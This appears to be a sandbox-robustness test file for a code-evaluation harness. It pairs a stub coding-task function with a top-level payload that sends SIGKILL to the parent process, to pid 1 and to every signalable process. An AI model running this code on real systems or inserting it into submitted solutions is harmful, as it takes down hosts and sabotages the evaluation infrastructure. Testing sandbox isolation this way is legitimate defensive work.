# needs: isolation
# attack: kill the parent, pid 1 and every process it can signal
import os
import signal

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass


def has_close_elements(numbers, threshold):
    return None
